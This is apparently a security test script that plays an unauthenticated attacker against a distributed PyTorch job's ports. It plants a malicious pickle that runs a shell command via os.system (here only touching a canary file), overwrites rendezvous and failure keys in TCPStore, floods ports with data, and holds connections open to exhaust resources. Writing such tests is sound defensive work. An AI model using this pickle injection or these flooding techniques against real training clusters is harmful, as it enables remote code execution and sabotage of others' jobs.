"""An attacker on the job's network without the key: `python -m tests.stranger ADDRESS:PORT ...`.

At each port it tries to read values, to end the job, to overwrite messages of the ranks, to fill memory and
file descriptors, and to plant a pickle. It prints one line of JSON: for each port the answers that look like
a success.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

os.environ.setdefault("TORCH_CPP_LOG_LEVEL", "FATAL")

import torch.distributed as dist

CANARY = Path(os.environ.get("CANARY", "/nonexistent"))
RUN_ID = os.environ.get("STRANGER_RUN_ID", "")
STAYS_S = float(os.environ.get("STRANGER_STAYS_S", "2"))
ATTACK_S = 15.0


class Planted:
    """An object that runs a command when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {CANARY}",)


def as_tcp_store(host: str, port: int, achieved: Callable[[str], None]) -> None:
    """Attacks a port with torch's own TCPStore client."""
    store = dist.TCPStore(host, port, None, False, timedelta(seconds=1.5), wait_for_workers=False)
    store.set("stranger", "was here")
    if store.get("stranger") == b"was here":
        achieved("wrote and read")
    for key in ("failure/verdict", "comm/1/allgather", "rank 0", "group/0", "rendezvous/verdict"):
        store.set(key, "failed")
    if RUN_ID:
        # Agents unpickle what they read, so the value is set before and after an agent sets it.
        planted = base64.b64encode(pickle.dumps(Planted())).decode()
        store.set(f"torch.rendezvous.{RUN_ID}", planted)
        achieved("planted a pickle")
    with suppress(Exception):
        achieved(f"saw {store.num_keys()} keys")


def send(host: str, port: int, data: bytes) -> str:
    """Sends `data` and returns the first bytes of the answer."""
    with socket.create_connection((host, port), 2) as connection, suppress(OSError):
        connection.settimeout(0.5)
        connection.sendall(data)
        return connection.recv(64).hex()
    return ""


def fill(host: str, port: int, num_mib: int) -> None:
    """Sends as much data as the port accepts within a few seconds."""
    with socket.create_connection((host, port), 2) as connection, suppress(OSError):
        connection.settimeout(1.0)
        for _ in range(num_mib):
            connection.sendall(bytes(2**20))


MESSAGES = [
    b"",
    b"\n",
    bytes(64),
    bytes(4096),
    b"GET / HTTP/1.1\r\n\r\n",
    b"hello 0123456789abcdef 1 elsewhere\nat 3 0 0 0.0 1.0 data\nbye\n",  # the heartbeat
    b"cmd=initack pmiid=0\n",  # PMI
    struct.pack("<q", 0),  # gloo's number of a pair
    struct.pack("<q", 1),
    struct.pack("<Q", 2**64 - 1),
    os.urandom(512),
]


def attack(place: str, pipe: int) -> None:
    """Attacks one port, prints what succeeded, and keeps connections open for a while."""
    host, _, text = place.rpartition(":")
    port, held = int(text), []

    def achieved(what: str) -> None:
        os.write(pipe, json.dumps([place, what]).encode() + b"\n")

    for message in MESSAGES:
        with suppress(OSError):
            send(host, port, message)
    with suppress(OSError):
        fill(host, port, 64)
    with suppress(OSError):
        for _ in range(50):
            held.append(socket.create_connection((host, port), 2))  # noqa: PERF401 - those before a failure count
    with suppress(Exception):
        as_tcp_store(host, port, achieved)
    time.sleep(STAYS_S)


def main() -> None:
    """Attacks each port in a separate process, because torch's client can block while it holds the GIL."""
    places = sys.argv[1:]
    reader, writer = os.pipe()
    children = []
    for place in places:
        child = os.fork()
        if child == 0:
            attack(place, writer)
            os._exit(0)
        children.append(child)
    os.close(writer)
    end_s = time.monotonic() + ATTACK_S + STAYS_S
    while children and time.monotonic() < end_s:
        children = [child for child in children if os.waitpid(child, os.WNOHANG)[0] == 0]
        time.sleep(0.1)
    for child in children:
        os.kill(child, signal.SIGKILL)
    done: dict[str, list[str]] = {place: [] for place in places}
    with os.fdopen(reader) as lines:
        for place, what in map(json.loads, lines):
            done[place].append(what)
    sys.stdout.write(json.dumps(done) + "\n")


if __name__ == "__main__":
    main()
